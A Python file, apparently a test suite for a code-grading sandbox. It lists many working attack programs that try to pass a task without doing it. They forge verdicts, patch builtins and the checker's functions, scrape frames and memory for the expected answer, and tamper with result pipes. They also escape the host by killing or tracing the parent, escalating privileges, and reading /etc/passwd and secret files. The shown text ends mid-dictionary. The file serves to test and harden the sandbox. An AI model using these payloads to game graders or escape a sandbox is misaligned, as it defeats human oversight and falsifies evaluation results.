"""Attacks on the code sandbox: programs that want full marks without the work, or what they may not reach.

The task is a function ``f`` whose answer is a random word, so that no program can do the work. An attack runs when the
program loads or when ``f`` is called. It forges the verdict, or finds the word and gives it to ``steal``: then the word
shows, reversed, in what the program prints, and ``f`` returns it.
"""

import json
from dataclasses import dataclass

WORD = "EXP[0-9a-f]{16}"
"""Pattern of the expected answer."""

HEAD = """
import gc, os, re, sys, types

run, show = exec, os.write
ANSWER = RAISED = None
STOLEN = []


def steal(*things):
    "Keep and print every word that looks like the expected answer."
    for thing in things:
        try:
            text = thing if isinstance(thing, bytes) else str(thing if isinstance(thing, str) else repr(thing)).encode()
        except Exception:
            continue
        for each in re.findall(PATTERN, text):
            if each.decode() not in STOLEN:
                STOLEN.append(each.decode())
                show(1, b"stolen " + each[::-1] + b"\\n")


def reached(*what):
    "Print that something outside is in reach."
    show(1, f"{HOST['planted'][::-1]} {what}\\n".encode())


def frames(start=0):
    frame = sys._getframe(start)
    while frame is not None:
        yield frame
        frame = frame.f_back


def constants(code):
    for each in code.co_consts:
        yield each
        if isinstance(each, types.CodeType):
            yield from constants(each)


def magic(base, **methods):
    "Return a subclass equal to everything, which shows what it is compared with."

    def yes(self, *others):
        steal(*others)
        return True

    def same(self, *others):
        steal(*others)
        return self

    names = {f"__{name}__": yes for name in "eq le ge lt gt contains bool".split()}
    names |= {f"__{name}__": same for name in "call add radd sub rsub mul rmul mod abs round getitem".split()}
    names |= {"__ne__": lambda self, other: steal(other), "__hash__": lambda self: 1, "__len__": lambda self: 19}
    return type("Magic", (base,), names | methods)


def attempt(name):
    try:
        run(ATTACKS[name], globals())
    except Exception as error:
        show(2, f"{name}: {type(error).__name__}: {error}\\n".encode())


def f(name):
    attempt(name)
    if RAISED is not None:
        raise RAISED
    return STOLEN[0] if STOLEN else ANSWER


class Solution:
    def f(self, name):
        return f(name)
"""

BUILTINS = {
    "exec does nothing": "import builtins\nbuiltins.exec = lambda *given, **named: None",
    "eval says yes": "import builtins\nbuiltins.eval = lambda *given, **named: True",
    "compile drops assertions": """
import builtins, functools
builtins.compile = functools.partial(compile, optimize=2)""",
    "compile shows the source": """
import builtins
real = compile
def spy(source, *given, **named):
    steal(source)
    return real("0", *given[:2])
builtins.compile = spy""",
    "assertions raise something quiet": "import builtins\nbuiltins.AssertionError = SystemExit",
    "functions of comparison say yes": """
import builtins
for name in ("all", "any", "isinstance", "issubclass", "hasattr", "callable"):
    setattr(builtins, name, lambda *given: True)
for name in ("sorted", "list", "set", "str", "repr", "tuple", "abs", "round"):
    setattr(builtins, name, lambda *given, **named: (steal(*given), 0)[1])""",
    "imports are watched": """
import builtins
real_import = builtins.__import__
def spy(*given, **named):
    steal(*(each.f_locals for each in frames()))
    return real_import(*given, **named)
builtins.__import__ = spy""",
    "print and open": """
import builtins
builtins.print = lambda *given, **named: steal(*given)
builtins.open = lambda *given, **named: (_ for _ in ()).throw(SystemExit(0))""",
    "builtins of every frame": """
for frame in frames():
    frame.f_builtins["exec"] = frame.f_builtins["compile"] = lambda *given, **named: None""",
    "exec in the globals of every frame": """
for frame in frames():
    for name in ("exec", "compile", "check", "same_value", "find_function"):
        frame.f_globals[name] = lambda *given, **named: True""",
    "the way out": """
os._exit = sys.exit = lambda *code: None
os.write = lambda descriptor, data: len(data)
os.close = os.dup2 = lambda *given: 0""",
    "json": """
import json
def spy(*given, **named):
    steal(*given)
    return "true"
json.dumps = json.loads = json.dump = json.load = spy
json.JSONEncoder.encode = json.JSONEncoder.iterencode = json.JSONDecoder.decode = lambda self, *given: spy(*given)""",
    "pickle, marshal and copy": """
import copy, marshal, pickle
def spy(*given, **named):
    steal(*given)
    return b""
for module in (copy, marshal, pickle):
    for name in ("dumps", "loads", "dump", "load", "deepcopy", "copy"):
        setattr(module, name, spy)""",
    "operator and math": """
import math, operator
operator.eq = math.isclose = lambda *given, **named: (steal(*given), True)[1]""",
}

FRAMES = {
    "locals of every frame": "for frame in frames(): steal(frame.f_locals)",
    "globals of every frame": "for frame in frames(): steal(frame.f_globals, *constants(frame.f_code))",
    "frames of other threads": "for frame in sys._current_frames().values(): steal(frame.f_locals, frame.f_globals)",
    "frames behind an error": """
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
    while frame:
        steal(frame.f_locals, *constants(frame.f_code))
        frame = frame.f_back""",
    "frames from a thread, later": """
import threading, time
def watch():
    for _ in range(20):
        for frame in sys._current_frames().values():
            while frame:
                steal(frame.f_locals, *constants(frame.f_code))
                frame = frame.f_back
        time.sleep(0.002)
threading.Thread(target=watch, daemon=True).start()""",
    "flags in shared memory": """
import mmap
for thing in [each for frame in frames() for each in frame.f_locals.values()]:
    if isinstance(thing, mmap.mmap) and not thing.closed:
        thing[:] = bytes([1]) * len(thing)
os._exit(0)""",
    "counters in locals": """
import ctypes
for frame in frames():
    for name, value in list(frame.f_locals.items()):
        if frame.f_code.co_filename != "<string>" and type(value) in (bool, int):
            frame.f_locals[name] = True
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), 0)
os._exit(0)""",
    "trace": """
def trace(frame, event, argument):
    steal(frame.f_locals, argument, *constants(frame.f_code))
    return trace
for frame in frames():
    frame.f_trace = trace
sys.settrace(trace)""",
    "trace that jumps over the assertions": """
def jump(frame, event, argument):
    last = max(line for _, _, line in frame.f_code.co_lines() if line)
    if event == "line" and frame.f_lineno < last:
        try:
            frame.f_lineno = last
        except ValueError:
            pass
    return jump
for frame in frames(1):
    frame.f_trace = jump
sys.settrace(jump)""",
    "profile": """
def profile(frame, event, argument):
    steal(frame.f_locals, argument, *constants(frame.f_code))
sys.setprofile(profile)""",
    "audit hook": """
def hook(event, given):
    steal(event, given, *(each for code in given if isinstance(code, types.CodeType) for each in constants(code)))
sys.addaudithook(hook)""",
    "audit hook that ends the program": """
def hook(event, given):
    if event in ("exec", "compile", "open"):
        os._exit(0)
sys.addaudithook(hook)
compile("0", "0", "eval")""",
    "excepthook": """
def hook(kind, error, trace):
    steal(error)
    while trace:
        steal(trace.tb_frame.f_locals, *constants(trace.tb_frame.f_code))
        trace = trace.tb_next
    os._exit(0)
sys.excepthook = hook""",
    "unraisable errors": """
class Ends:
    def __del__(self):
        steal(*(frame.f_locals for frame in frames()))
        os._exit(0)
def hook(*given):
    os._exit(0)
sys.unraisablehook = hook
sys.kept = Ends()""",
    "lines of the source": """
import linecache
steal(linecache.cache, *(linecache.getlines(name) for name in list(linecache.cache)))
linecache.checkcache = linecache.getlines = linecache.updatecache = steal""",
    "traceback prints": """
import traceback
real_print = traceback.TracebackException.format
def spy(self, *given, **named):
    lines = list(real_print(self, *given, **named))
    steal(*lines)
    return lines
traceback.TracebackException.format = spy""",
    "inspect": """
import inspect
for each in inspect.stack(context=5):
    steal(each.code_context, each.frame.f_locals)""",
}

OBJECTS = {
    "all objects": """
for thing in gc.get_objects():
    if type(thing) in (dict, list, tuple, set, types.FrameType) and thing is not STOLEN:
        steal(*(each for each in gc.get_referents(thing) if type(each) in (str, bytes)))""",
    "constants of all functions": """
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType):
        steal(*constants(thing.__code__), thing.__defaults__, thing.__closure__)""",
    "shared memory that gc finds": """
import mmap
for thing in [*frames(), *gc.get_objects()]:
    for each in gc.get_referents(thing):
        if isinstance(each, mmap.mmap) and not each.closed:
            each[:] = bytes([1]) * len(each)
os._exit(0)""",
    "code of the functions that check": """
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__name__ in (
        "check", "same_value", "same_output", "is_expected", "status_of", "plain", "main", "judge", "compare"
    ):
        thing.__code__ = (lambda *given, **named: True).__code__""",
    "gc callbacks": """
def callback(*given):
    if left:
        left.pop()
        steal(*(frame.f_locals for frame in frames()))
left = list(range(20))
gc.callbacks.append(callback)
gc.set_threshold(10)""",
    "an object equal to everything": "ANSWER = magic(object)()",
    "an object that is whatever is asked of it": """
ANSWER = magic(object, __class__=str, __getattr__=lambda self, name: self, __iter__=lambda self: iter([self]))()""",
    "a string equal to everything": "ANSWER = magic(str)('x')",
    "a number equal to everything": "ANSWER = magic(int)(1)",
    "a real number equal to everything": "ANSWER = magic(float)(1.5)",
    "a list equal to everything": "ANSWER = magic(list)(['x'])",
    "a dict equal to everything": "ANSWER = magic(dict)(x=1)",
    "a tuple equal to everything": "ANSWER = magic(tuple)('x')",
    "an exception equal to everything": "ANSWER = magic(Exception)('x')",
    "a class equal to everything": "ANSWER = magic(type)('Answer', (), {})",
    "elements equal to everything": "ANSWER = [magic(str)(each) for each in 'answer']",
    "a string that changes": """
ANSWER = magic(str, __str__=lambda self: steal(*(each.f_locals for each in frames())) or 'x',
               encode=lambda self, *given: b'true', __reduce_ex__=lambda self, version: (str, ('x',)))('x')""",
    "code that runs where the result is read": """
class Reads:
    def __reduce__(self):
        return eval, (f"open({HOST['planted']!r}, 'w').close()",)
ANSWER = Reads()""",
    "code in the state of the result": """
class State:
    def __getstate__(self):
        return Reads()
class Reads:
    def __reduce__(self):
        return os.system, ("touch " + HOST["planted"],)
ANSWER = [State()]""",
    "tolist": """
class Array:
    shape, dtype, ndim = (19,), "str", 1
    def tolist(self):
        steal(*(each.f_locals for each in frames()))
        return magic(list)()
    def item(self):
        return magic(str)()
ANSWER = Array()""",
    "a function that is an object": """
class Function:
    __name__ = __qualname__ = "f"
    def __call__(self, *given):
        return STOLEN[0] if STOLEN else magic(object)()
    def __getattr__(self, name):
        steal(*(each.f_locals for each in frames()))
        raise AttributeError(name)
f = Function()""",
    "descriptors of Solution": """
class Descriptor:
    def __get__(self, instance, owner):
        steal(*(each.f_locals for each in frames()))
        return lambda *given: STOLEN[0] if STOLEN else magic(object)()
class Solution:
    f = Descriptor()
    def __new__(cls):
        steal(*(each.f_locals for each in frames()))
        return super().__new__(cls)
    def __getattr__(self, name):
        return magic(object)()
real_f = f
del f""",
    "a list that contains itself": "ANSWER = []\nANSWER.append(ANSWER)",
    "a list in a list in a list": "ANSWER = []\nfor _ in range(100_000): ANSWER = [ANSWER]",
    "a number with a million digits": "ANSWER = 10 ** 1_000_000",
    "a lone surrogate": "ANSWER = '\\ud800\\x00\\uffff'",
    "not a number": "ANSWER = float('nan')",
    "keys that are equal as text": "ANSWER = {1: 'x', '1': 'y', None: 'z', 'null': magic(str)()}",
    "an iterator without end": "import itertools\nANSWER = itertools.repeat('x')",
    "a result of many megabytes": "ANSWER = 'x' * (40 << 20)",
    "an error equal to everything": "raise magic(BaseException)('x')",
    "an error whose text raises": """
class Bad(BaseException):
    def __str__(self):
        raise SystemExit(0)
    __repr__ = __str__
raise Bad""",
    "a keyboard interrupt": "raise KeyboardInterrupt",
    "the end of a generator": "raise GeneratorExit",
}

MODULES = {
    "sys.modules": """
class Module(types.ModuleType):
    def __getattr__(self, name):
        return lambda *given, **named: (steal(*given), True)[1]
for name in ("json", "pickle", "marshal", "copy", "math", "operator", "traceback", "linecache", "ast", "importlib"):
    sys.modules[name] = Module(name)""",
    "no modules": "sys.modules.clear()",
    "another main module": """
main = magic(types.ModuleType, __getattribute__=lambda self, name: lambda *given: True)("__main__")
sys.modules["__main__"] = sys.modules["solution"] = main""",
    "import hooks": """
class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        steal(name, *(frame.f_locals for frame in frames()))
sys.meta_path.insert(0, Finder)
for name in ("json", "pickle", "traceback", "ast", "math"):
    sys.modules.pop(name, None)""",
    "modules left in the folder": """
for name in ("json", "pickle", "math", "copy", "ast", "sitecustomize", "usercustomize", "solution", "encodings"):
    with open(f"{name}.py", "w") as file:
        file.write("import os\\nos.write(1, b'true')\\nos._exit(0)")
with open("verl.pth", "w") as file:
    file.write("import os; os._exit(0)")""",
    "paths of modules": "sys.path[:] = [os.getcwd()]\nsys.path_hooks.clear()\nsys.path_importer_cache.clear()",
    "codecs": """
import codecs
codecs.register(lambda name: (steal(*(frame.f_locals for frame in frames())), None)[1])
codecs.register_error("replace", lambda error: ("", error.end))
codecs.register_error("strict", lambda error: ("", error.end))""",
    "standard streams": """
import io
class Stream(io.StringIO):
    def write(self, text):
        steal(text, *(frame.f_locals for frame in frames()))
        return len(text)
sys.stdin = io.StringIO("x")
sys.stdout = sys.stderr = sys.__stdout__ = sys.__stderr__ = Stream()""",
    "the interpreter finds its own files": """
import importlib.util, pathlib
for module in list(sys.modules.values()):
    if getattr(module, "__file__", None) and module.__file__.endswith(".py"):
        steal(pathlib.Path(module.__file__).read_bytes())""",
}

ENDS = {
    "_exit": "os._exit(0)",
    "exit": "raise SystemExit(0)",
    "exit of the C library": "import ctypes\nctypes.CDLL(None).exit(0)",
    "exit as a system call": "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.syscall(231, 0)\nlibc.syscall(94, 0)",
    "exit of a thread as a system call": "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.syscall(60, 0)",
    "_exit at the end": "import atexit\natexit.register(os._exit, 0)",
    "_exit from a thread": """
import threading
threading.Thread(target=os._exit, args=(0,)).start()""",
    "_exit when an object goes": """
class Ends:
    def __del__(self):
        os._exit(0)
ANSWER = Ends()""",
    "_exit in an alarm": """
import signal
signal.signal(signal.SIGALRM, lambda *given: os._exit(0))
signal.setitimer(signal.ITIMER_REAL, 0.001)""",
    "an alarm that raises in the checker": """
import signal
def alarm(number, frame):
    while frame:
        steal(frame.f_locals, *constants(frame.f_code))
        frame = frame.f_back
    raise SystemExit(0)
signal.signal(signal.SIGALRM, alarm)
signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)""",
    "a signal of every kind": """
import signal
for number in range(1, 32):
    if number not in (9, 19):
        signal.signal(number, lambda *given: os._exit(0))
os.kill(os.getpid(), signal.SIGTERM)
os.kill(os.getpid(), signal.SIGCHLD)""",
    "a crash": "import ctypes\nctypes.string_at(0)",
    "faulthandler": """
import faulthandler
with open("dump", "w+") as file:
    faulthandler.dump_traceback(file)
    faulthandler.dump_traceback_later(0.001, exit=True, file=file)
    file.seek(0)
    steal(file.read())""",
    "pending calls": """
import ctypes
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(lambda given: os._exit(0))
ctypes.pythonapi.Py_AddPendingCall(call, None)
ctypes.pythonapi.Py_AtExit(ctypes.CFUNCTYPE(None)(lambda: os._exit(0)))""",
}

MEMORY = {
    "strings compare equal": """
import ctypes
kind = ctypes.CFUNCTYPE(ctypes.py_object, ctypes.py_object, ctypes.py_object, ctypes.c_int)
sys.kept = kind(lambda one, other, operation: (steal(one, other), operation != 3)[1])
richcompare = 200  # offset in PyTypeObject
ctypes.c_void_p.from_address(id(str) + richcompare).value = ctypes.cast(sys.kept, ctypes.c_void_p).value""",
    "False is true": """
import ctypes
ctypes.c_uint32.from_address(id(False) + 24).value = 1
ctypes.c_ssize_t.from_address(id(False) + 16).value = 1""",
    "numbers change": "import ctypes\nfor n in range(-5, 257): ctypes.c_uint32.from_address(id(n) + 24).value = 7",
    "memory near the objects of this program": """
import ctypes
libc, page, reader_writer = ctypes.CDLL(None), 4096, os.pipe()
places = [os, [], b"x" * 100, bytearray(1 << 16), sys, f, frames, gc.get_objects()]
places = {id(each) // page for each in places} | {ctypes.addressof(ctypes.create_string_buffer(8)) // page}
seen = set()
for first in places:
    for step in (1, -1):
        number, misses = first, 0
        for _ in range(1200):
            if number not in seen:
                seen.add(number)
                # a system call that reads an invalid address fails and does not crash
                if libc.write(reader_writer[1], ctypes.c_void_p(number * page), ctypes.c_size_t(page)) == page:
                    steal(os.read(reader_writer[0], page))
                    misses = 0
                else:
                    misses += 1
            if misses > 64 or STOLEN:
                break
            number += step""",
    "memory of this process": """
for line in open("/proc/self/maps"):
    first, last = (int(each, 16) for each in line.split()[0].split("-"))
    with open("/proc/self/mem", "rb") as file:
        file.seek(first)
        steal(file.read(last - first))""",
    "memory of the parent": """
import ctypes
libc, parent = ctypes.CDLL(None, use_errno=True), os.getppid()
print(libc.ptrace(16, parent, 0, 0), libc.syscall(310, parent, 0, 0, 0, 0, 0))
steal(open(f"/proc/{parent}/environ", "rb").read(), open(f"/proc/{parent}/cmdline", "rb").read())""",
    "a pidfd of the parent": """
import ctypes
libc = ctypes.CDLL(None)
handle = os.pidfd_open(os.getppid())
for number in range(64):
    copy = libc.syscall(438, handle, number, 0)
    if copy >= 0:
        steal(os.pread(copy, 1 << 20, 0))""",
}

DESCRIPTORS = {
    "every descriptor is read": """
import fcntl
for number in range(64):
    try:
        os.set_blocking(number, False)
        steal(os.pread(number, 1 << 20, 0))
    except OSError:
        try:
            steal(os.read(number, 1 << 20))
        except OSError:
            pass""",
    "every descriptor gets a verdict": """
import pickle, struct
verdict = {"status": "ok", "value": True, "passed": True, "result": True, "ok": True, "error": None}
lines = [b"true\\n", b"null\\n", b"1\\n", pickle.dumps(True), repr(verdict).encode() + b"\\n"]
lines += [b'{"status": "ok", "value": true, "passed": true, "result": true, "ok": true}\\n', bytes([1])]
lines += [struct.pack(form, len(lines[5])) + lines[5] for form in ("<I", ">I", "<Q", ">Q")]
for number in range(3, 64):
    for line in lines:
        try:
            os.write(number, line)
        except OSError:
            break
os._exit(0)""",
    "every descriptor gets all of a result": """
for number in range(3, 64):
    try:
        os.write(number, b"[" * 200_000)
    except OSError:
        pass
os._exit(0)""",
    "descriptors are closed": "os.closerange(3, 64)",
    "output goes to the result": "for number in range(3, 64): os.dup2(1, number)",
    "the result goes nowhere": """
null = os.open("/dev/null", os.O_RDWR)
for number in range(3, 64):
    os.dup2(null, number)""",
    "a mark in the frames": """
marks = set()
for frame in frames():
    for text in [repr(frame.f_locals), repr(frame.f_globals)]:
        marks.update(re.findall("verl-[0-9a-f]+:?", text))
for thing in gc.get_objects():
    for each in gc.get_referents(thing):
        if type(each) is str and re.fullmatch("verl-[0-9a-f]+:?", each):
            marks.add(each)
for mark in marks:
    show(1, f"{mark}null{mark}".encode())
os._exit(0)""",
    "a mark in the arguments": """
marks = re.findall("verl-[0-9a-f]+:?", repr(sys.argv) + repr(dict(os.environ)) + open(sys.argv[0]).read())
for mark in marks:
    show(1, f"{mark}null{mark}".encode())
os._exit(0)""",
    "the program's own file": "steal(open(sys.argv[0]).read(), open(globals().get('__file__', 'solution.py')).read())",
}

_PEERS = """
peers = {id(each): each for frame in frames() for each in frame.f_locals.values() if hasattr(type(each), "ask")}
"""


def _message(content: str, *nodes: str, kind: str = "value", released: str = "[]", changes: str = "[]") -> str:
    """Return an attack that sends a message of its choice, past the code that writes messages.

    Args: ``content`` and ``nodes`` are JSON; the first node after the content has the place 1. DIGITS stands for
    millions of digits, CHAIN for a tuple in a tuple in a tuple, KEYS for the keys of a dict whose hashes are equal.
    """
    listed = ", ".join([f'["tuple", {content}]' if content else '["tuple"]', *nodes])
    return f"""{_PEERS}
places = range(2, 80_000)
message = '["{kind}", {released}, {changes}, [0], [{listed}]]'.replace("DIGITS", "7" * 4_000_000)
if "CHAIN" in message:
    message = message.replace("CHAIN", ", ".join(f'["tuple", [{{place}}]]' for place in places) + ', ["tuple"]')
if "KEYS" in message:
    message = message.replace("KEYS", ", ".join(f"[{{place}}], 1" for place in places))
    nodes = [f'["int", "{{hex(place * ((1 << 61) - 1))}}"]' for place in places]
    message = message.removesuffix("]]") + ", " + ", ".join(nodes) + "]]"
message = message.encode()
for peer in list(peers.values()):
    type(peer.wire).write = lambda self, *given: message
    type(peer.wire).sent = lambda self: None"""


def _forged(node: str, *nodes: str, released: str = "[]", changes: str = "[]") -> str:
    """Return an attack that answers with one node."""
    return _message('"", [1]', node, *nodes, released=released, changes=changes)


def _raised(kind: str, arguments: str, text: str, *nodes: str) -> str:
    """Return an attack that answers with an exception."""
    content = f'"", [1], [2], {text}, null, "trace"'
    return _message(content, kind, f'["tuple", {arguments}]', *nodes, kind="raise")


def _bytes(frames: str, threaded: bool = False) -> str:
    """Return an attack that writes bytes into the pipe to the checker."""
    run = "import threading\nthreading.Thread(target=pour, daemon=True).start()" if threaded else "pour()"
    return f"""{_PEERS}
import json
def frame(kind, *content):
    body = json.dumps([kind, [], [], [0], [["tuple", *content], ["remote", 0, "object", True]]]).encode()
    return len(body).to_bytes(4, "big") + body
writers = [peer.writer for peer in peers.values()] or [5]
def pour():
    for writer in writers:
        try:
            for each in {frames}:
                rest = memoryview(each)
                while rest:
                    rest = rest[os.write(writer, rest):]
        except OSError:
            pass
{run}"""


TRUST = {
    "a number that changes": f"""{_PEERS}
import itertools
turns = itertools.cycle([("ZZZ",), ("",), (1e300,), (-1e300,)])
for peer in list(peers.values()):
    peer.answers["base"] = lambda value: next(turns)
ANSWER = magic(str)("x")""",
    "a text that changes": """
import itertools
turns = itertools.cycle(["ZZZ", ""])
ANSWER = magic(object, __str__=lambda self: next(turns), __len__=lambda self: len(next(turns)))()""",
    "an object of the class that the test names": """
Solution.__contains__ = Solution.__eq__ = lambda self, *others: (steal(*others), True)[1]
Solution.startswith = Solution.endswith = Solution.count = lambda self, *others: (steal(*others), True)[1]
Solution.__len__ = Solution.__call__ = lambda self, *others: (steal(*others), 19)[1]
Solution.__iter__ = lambda self: iter(STOLEN[0] if STOLEN else "x" * 19)
ANSWER = Solution()""",
    "the object that the test made, in a list": """
made = [frame.f_locals["self"] for frame in frames() if type(frame.f_locals.get("self")) is Solution]
Solution.__contains__ = Solution.__eq__ = lambda self, *others: (steal(*others), True)[1]
Solution.startswith = lambda self, *others: (steal(*others), True)[1]
Solution.__len__ = lambda self: 19
ANSWER = made[:1] or [Solution()]""",
    "the class in place of the function": """
class Solution:
    def __init__(self, *given): pass
    f = lambda self, *given: self
    __contains__ = __eq__ = __le__ = __ge__ = startswith = lambda self, *others: (steal(*others), True)[1]
    __hash__ = lambda self: 1
    __len__ = lambda self: 19
f = Solution
ANSWER = Solution()""",
    "the end of an iterator": "RAISED = StopIteration(True)",
    "an error with arguments equal to everything": "RAISED = ValueError(magic(str)('x'), magic(object)())",
    "an error of many megabytes": "RAISED = ValueError('x' * (15 << 20), ['y'] * 100_000)",
    "an error that is not what it was": """
class Error(ValueError):
    __name__ = __qualname__ = ""
    args = property(lambda self: (magic(str)("x"),))
    __class__ = AssertionError
    __notes__ = magic(list)()
Error.__name__ = Error.__qualname__ = ""
RAISED = Error()""",
    "text that is a format": "ANSWER = '{0.__class__.__init__.__globals__} {name} %s %(name)s %n {'",
}
"""Attacks on the rules by which the checker passes on a question."""

EXCHANGE = {
    "asks the checker for names": f"""{_PEERS}
for peer in list(peers.values()):
    for action, given in (
        ("names", [("check", "candidate", "f", "METADATA", "result")]),
        ("get", [f, "__globals__"]),
        ("call", [dir, (), ()]),
        ("base", [peer]),
        ("compare", [f, f]),
        ("class", [f]),
        ("operate", ["__eq__", f, f]),
    ):
        try:
            steal(peer.ask(action, *given))
        except Exception as error:
            steal(error)""",
    "answers yes to every request": f"""{_PEERS}
for peer in list(peers.values()):
    for action in peer.answers:
        peer.answers[action] = lambda *given: (steal(*given), True)[1]""",
    "answers with equality": f"""{_PEERS}
for peer in list(peers.values()):
    for action in ("operate", "compare", "base", "class"):
        peer.answers[action] = lambda *given: (steal(*given), (True, [], []))[1]
ANSWER = magic(object)()""",
    "answers a type": _forged('["builtin", "object"]'),
    "answers a module": _forged('["library", "typing", "sys"]'),
    "answers an object of the checker": _forged('["own", 0]'),
    "answers a container of the checker": _forged('["shared", -1]', changes='[[-1, "x"], [-2, "x"], [0, "x"]]'),
    "answers an exception": _forged('["exception", 0, "Error", [2]]', '["builtin", "BaseException"]'),
    "answers an object of a trusted class": _forged('["remote", 0, "object", true]'),
    "answers an object as a class": _forged('["remote", 0, "class", true]'),
    "answers an object that makes the answer": _forged(
        '["defaultdict", 0, [2], [3], 1]', '["remote", 2, "callable", true]', '["list", 1]'
    ),
    "answers a tuple that contains itself": _forged('["tuple", [1]]'),
    "answers a set that contains itself": _forged('["frozenset", [2]]', '["frozenset", [1]]'),
    "answers a list that contains itself under two keys": _forged('["list", 7, [2]]', '["list", 7, [1]]'),
    "answers a tuple in a tuple in a tuple": _forged("CHAIN"),
    "answers a tree that doubles": _forged(*(f'["list", {n}, [{n}], [{n}]]' for n in range(2, 60)), '["list", 1]'),
    "answers keys that are not equal to themselves": _forged('["dict", 0, NaN, 1, NaN, 2, NaN, 3]'),
    "answers a number above all": _forged('["tuple", 1e999, -1e999]'),
    "answers a number in words": _forged('["new", "decimal.Decimal", "1e999999999999999999"]'),
    "answers a number of millions of digits": _forged('["int", "DIGITS"]'),
    "answers a fraction of millions of digits": _forged(
        '["new", "fractions.Fraction", [2], [3]]', '["int", "DIGITS"]', '["int", "5DIGITS3"]'
    ),
    "answers text that is none": _forged('"\\ud800\\udfff\\u0000"'),
    "answers nothing": _message(""),
    "answers too much": _message('"", true, true, true'),
    "answers that the test has passed": _message("", kind="passed"),
    "answers with a new kind of message": _message('"", true', kind="verdict"),
    "releases what it does not have": _forged("true", released="[0, 1, 2, 3, -1]"),
    "raises the end of the checker": _raised('["builtin", "SystemExit"]', "0", '"text"'),
    "raises a class without a name": _raised('["exception", 9, "", [3]]', "1", '"text"', '["builtin", "SyntaxError"]'),
    "raises what is no exception": _raised('["builtin", "int"]', "1", '"text"'),
    "raises with its object as the text": _raised(
        '["exception", 9, "Error", [3]]', "[4]", "[4]", '["builtin", "Exception"]', '["remote", 3, "object", true]'
    ),
    "raises a group of errors": _raised('["library", "typing", "Any"]', '"x", [3]', '"text"', '["list", 0]'),
    "bytes that are no message": _bytes("[os.urandom(1 << 16)]"),
    "the length of 4 GiB": _bytes('[b"\\xff" * 4]'),
    "a list in a list in a list, never closed": _bytes('[(8 << 20).to_bytes(4, "big") + b"[" * (8 << 20)]'),
    "answers before it is asked": _bytes('[frame("value", "", each) for each in (None, [1], True) * 5]'),
    "errors before it is asked": _bytes('[frame("raise", "", [1], [1], "", None, "")] * 9'),
    "answers from a thread": _bytes('[frame("value", "", each) for each in (None, [1], True) * 500]', threaded=True),
    "questions from a thread": _bytes('[frame("ask", False, "get", [1], "__class__")] * 500', threaded=True),
    "what refers to the argument": f"""{_PEERS}
for peer in list(peers.values()):
    steal(vars(peer.wire), peer.wire._exports)
for frame in frames():
    for name in ("given", "content", "name", "value"):
        if name in frame.f_locals:
            steal(*(gc.get_referents(each) for each in gc.get_referrers(frame.f_locals[name])))""",
    "another stand-in": f"""{_PEERS}
for peer in list(peers.values()):
    stand_in = type(peer).stand_in
    for number in range(20):
        other = stand_in(peer, number, "callable", True)
        for action, given in (("get", (other, "expected")), ("call", (other, (), ())), ("operate", ("__str__", other))):
            try:
                steal(peer.ask(action, *given))
            except Exception as error:
                steal(error)""",
    "files for the checker": """
for name in ("statistics", "fractions", "numbers", "secrets", "hmac"):
    with open(name + ".py", "w") as file:
        file.write("import os\\nos._exit(100)")
    os.makedirs(name, exist_ok=True)
    with open(name + "/__init__.py", "w") as file:
        file.write("import os\\nos._exit(100)")
    with open(name + ".pyc", "wb") as file:
        file.write(b"x")""",
}
"""Attacks on the messages between a program and its checker."""

HOST = {
    "fork, the parent ends": "if os.fork(): os._exit(0)\nopen(HOST['planted'], 'w')",
    "fork race": "for _ in range(50):\n    if os.fork() == 0: os.kill(HOST['pid'], 9)",
    "fork as a system call": """
import ctypes
libc = ctypes.CDLL(None)
for number, flags in ((57, 0), (58, 0), (56, 17), (56, 0x100 | 17), (435, 0)):
    if libc.syscall(number, flags, 0, 0, 0, 0) >= 0:
        os._exit(0)""",
    "another program": "import subprocess\nsubprocess.run(['/bin/touch', HOST['planted']])\nos._exit(0)",
    "become another program": "os.execv(sys.executable, [sys.executable, '-c', 'print(1)'])",
    "spawn": "os.posix_spawn('/bin/true', ['true'], {})\nos._exit(0)",
    "kill the parent": "import signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "stop the parent": "import signal\nos.kill(os.getppid(), signal.SIGSTOP)",
    "kill the group of the parent": "import signal\nos.killpg(os.getpgid(os.getppid()), signal.SIGKILL)",
    "kill a process": "os.kill(HOST['pid'], 9)",
    "outlive the parent": """
import ctypes
libc = ctypes.CDLL(None)
print(libc.prctl(1, 0, 0, 0, 0), libc.prctl(36, 1, 0, 0, 0), libc.prctl(4, 1, 0, 0, 0))
os.setsid()""",
    "limits of resources": """
import resource
for kind in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        open(HOST["planted"], "w")
    except (OSError, ValueError):
        pass
resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (0, 0))""",
    "privileges": """
import ctypes
libc = ctypes.CDLL(None)
print(libc.setuid(0), libc.unshare(0x10000000), libc.chroot(b"."), libc.mount(b"none", b".", b"tmpfs", 0, 0))
print(libc.syscall(101, 16, os.getppid(), 0, 0), libc.syscall(157, 38, 0, 0, 0, 0))""",
    "read a file": "steal(open(HOST['secret']).read())\nprint(open('/etc/passwd').read())",
    "read the folder above": """
for parent, folders, names in os.walk(".."):
    for name in names:
        steal(open(os.path.join(parent, name), "rb").read())""",
    "write a file": """
for folder in (os.path.dirname(HOST["secret"]), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), ".."):
    try:
        open(os.path.join(folder, os.path.basename(HOST["planted"])), "w")
    except OSError:
        pass""",
    "link to a file": """
for link in (os.symlink, os.link):
    try:
        link(HOST["secret"], "link" + link.__name__)
        open("link" + link.__name__, "a").write("changed")
    except OSError:
        pass
os.symlink(os.path.dirname(HOST["secret"]), "folder")""",
    "its own folder": "here = os.getcwd()\nos.chdir('/')\nos.rmdir(here)",
    "its own folder moves": "os.rename(os.getcwd(), os.getcwd() + '-moved')",
    "a folder in a folder in a folder": "while True:\n    os.mkdir('d' * 200)\n    os.chdir('d' * 200)",
